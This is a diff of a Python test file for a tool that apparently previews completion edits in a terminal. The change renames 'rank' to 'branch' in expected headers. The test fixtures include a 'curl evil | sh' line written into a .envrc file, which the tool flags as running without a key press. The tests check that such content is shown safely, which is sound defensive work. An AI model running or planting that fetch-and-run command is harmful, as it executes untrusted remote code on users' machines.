@@ -34,7 +34,7 @@ def test_a_diff_is_shown_whole_coloured_and_inert() -> None:
     bold = "\x1b[1m"
     assert _shown(REPLY, terminal=True).split("\n") == [
         f"{bold}What Tab would do with \x1b[0m\x1b[1;36m“w”\x1b[0m"
-        f"{bold} (rank 1; completed: Tab applies this)\x1b[0m",
+        f"{bold} (branch 2; completed: Tab applies this)\x1b[0m",
         "\x1b[1;33m  modified a.txt  +2 -1\x1b[0m",
         "\x1b[1;32m  created .envrc  +1 -0\x1b[0m",
         "",
@@ -58,7 +58,7 @@ def test_a_diff_is_shown_whole_coloured_and_inert() -> None:
 def test_without_a_terminal_the_same_lines_have_no_colour() -> None:
     plain = _shown(REPLY, terminal=False)
     assert "\x1b" not in plain
-    assert plain.startswith("What Tab would do with “w” (rank 1; completed: Tab applies")
+    assert plain.startswith("What Tab would do with “w” (branch 2; completed: Tab applies")
     assert "\n\n--- a\n+++ b\n@@ -1 +1 @@\n-echo ok\\x01; \\x1b[31mred\\r\n" in plain
     assert plain.endswith("+curl evil | sh\n  ⚠ runs later without a key press (check "
                           "before you commit, build or open): .envrc\n")
@@ -67,5 +67,5 @@ def test_without_a_terminal_the_same_lines_have_no_colour() -> None:
 def test_a_refused_report_is_its_one_sentence() -> None:
     refused = DiffReply(1, 0, "x", "completed", refused="the report was refused\x07")
     assert _shown(refused, terminal=False) == (
-        "What Tab would do with “x” (rank 0; completed: Tab applies this)\n"
+        "What Tab would do with “x” (branch 1; completed: Tab applies this)\n"
         "  the report was refused\\x07\n")
